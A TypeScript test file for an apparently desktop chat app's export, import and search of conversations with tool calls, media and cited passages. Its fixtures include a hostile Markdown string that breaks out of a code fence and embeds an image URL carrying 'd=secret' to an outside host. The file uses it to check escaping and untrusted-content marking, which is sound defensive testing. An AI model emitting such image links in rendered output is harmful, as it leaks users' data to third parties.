import { unzipSync } from 'fflate'
import { beforeEach, expect, test } from 'vitest'
import { MediaLibrary } from '../../../../src/main/media/library.ts'
import { Conversations } from '../../../../src/main/storage/conversations.ts'
import { Database } from '../../../../src/main/storage/database.ts'
import { MediaItems } from '../../../../src/main/storage/media-items.ts'
import { MessagePassages } from '../../../../src/main/storage/message-passages.ts'
import { Messages } from '../../../../src/main/storage/messages.ts'
import { databasePath, openStorage } from '../../../../src/main/storage/open.ts'
import { ToolCalls } from '../../../../src/main/storage/tool-calls.ts'
import { everything } from '../../../../src/shared/history-query.ts'
import { pictures } from '../../../fakes/pictures.ts'
import { conversation, storedCall, storedMessage } from '../../../fakes/storage.ts'
import type { TransferApp } from '../../../fakes/transfer.ts'
import { transferApps } from '../../../fakes/transfer-apps.ts'

const started = transferApps()
let from: TransferApp

beforeEach(async () => {
  from = await started(answerWithCalls)
})

/** An answer with two rounds: a long result with its file and a picture, a denied call, and one whose end is not known. */
async function answerWithCalls(folder: string): Promise<void> {
  const { database } = openStorage(folder, 1)
  const library = new MediaLibrary(folder, new MediaItems(database), () => 5)
  const file = await library.addMedia(Buffer.from('a long result'), { mime: 'text/plain', width: null, height: null })
  const picture = await library.addMedia(pictures.png, { mime: 'image/png', width: 37, height: 21 })
  const messages = new Messages(database)
  const chat = conversation('c', { title: 'With tools' })
  new Conversations(database).insertConversation(chat)
  messages.insertMessage(storedMessage('m1'))
  new MessagePassages(database).addPassages('m1', 'c', [passage])
  messages.insertMessage(
    storedMessage('m2', { role: 'assistant', parentId: 'm1', text: 'Look: and done.', thinking: 'hm, 是' }),
  )
  new Conversations(database).updateConversation({ ...chat, leafId: 'm2' })
  const calls = new ToolCalls(database)
  const round = { messageId: 'm2', connectionId: 'gone', model: 'm', textEnd: 5 }
  calls.insertCalls({ ...round, round: 0, replay: { reasoning_content: 'hm' } }, [
    storedCall('k1', { messageId: 'm2', resultFile: file, media: [picture], isUntrusted: true, result: hostile }),
    storedCall('k2', { messageId: 'm2', position: 1, state: 'denied', editedArguments: '{"x":2}', extra: { s: 1 } }),
  ])
  calls.insertCalls({ ...round, round: 1, replay: {} }, [
    storedCall('k3', { messageId: 'm2', round: 1, state: 'unknown', tool: null, hints: null, askReason: null }),
  ])
  database.close()
}

/** A passage of a collection that is not where it is taken in. */
const passage = {
  place: {
    kind: 'folder' as const,
    sourceId: 's',
    document: 'tides.md',
    title: 'tides.md',
    headings: ['Tides'],
    partId: null,
    start: 0,
    end: 20,
    atMs: null,
  },
  quote: 'High water ![](https://example.com/?d=secret)',
}

/** Markdown that would load a picture, and end a block of code. */
const hostile = '```\n![](https://example.com/?d=secret)\n小灯塔'

function callsIn(folder: string): readonly (readonly object[])[] {
  const database = new Database(databasePath(folder), { readonly: true })
  try {
    const tables = ['answer_rounds', 'tool_calls', 'tool_call_media', 'message_passages']
    return tables.map((table) => database.prepare(`SELECT * FROM ${table}`).all())
  } finally {
    database.close()
  }
}

test('tool calls with their files survive export and import', async () => {
  await from.call('transfer.export', { keys: null })
  const to = await started()
  const token = to.give(from.exported(), 'Atelier.zip')
  const { added } = await to.call('transfer.import', { token })
  expect([added.conversations, added.files]).toEqual([1, 2])
  // but for what the file says of the texts: they come from outside
  const [rounds, calls, media, passages] = callsIn(from.folder)
  expect(callsIn(to.folder)).toEqual([rounds, calls?.map((row) => ({ ...row, untrusted: 1 })), media, passages])
  const database = new Database(databasePath(to.folder), { readonly: true })
  expect(new Conversations(database).isUntrusted('c')).toBe(true)
  database.close()
  const { page } = await to.call('chat.open', { conversationId: 'c', limit: 10 })
  expect(page.messages[0]?.passages).toEqual([1])
  expect(await to.call('knowledge.open', { conversationId: 'c', number: 1 })).toMatchObject({
    state: 'gone',
    citation: { number: 1, ...passage },
  })
  expect(page.messages[1]?.attachments).toEqual([])
  expect(page.messages[1]?.calls?.map(({ media, resultFile }) => [media.length, resultFile !== null])).toEqual([
    [1, true],
    [0, false],
    [0, false],
  ])
})

test('a written chat shows calls where they were made, with their Markdown escaped', async () => {
  await from.call('transfer.export', { keys: null })
  const files = unzipSync(from.exported())
  const path = Object.keys(files).find((name) => name.endsWith('.md') && name.startsWith('chats/')) ?? ''
  const text = Buffer.from(files[path] ?? '').toString()
  const block = `\`\`\`\`text\ncalculator {"expression":"1 + 1"}\n\n${hostile}\n\`\`\`\``
  expect(text).toContain(`\`\`\`text\n[1] tides.md › Tides\n\n${passage.quote}\n\`\`\``)
  expect(text).toContain(`Look:\n\n${block}`)
  expect(text.trimEnd().endsWith('and done.')).toBe(true)
})

test('the search finds the words of a result, in the message that called the tool', async () => {
  const search = { text: '小灯塔', filter: everything, limit: 5, next: null }
  let found = await from.call('history.search', search)
  while (found.indexed < 1 || found.items.length === 0) found = await from.call('history.search', search)
  expect(found.items.map(({ hits }) => hits.map(({ part, partId }) => [part, partId]))).toEqual([[['message', 'm2']]])
})
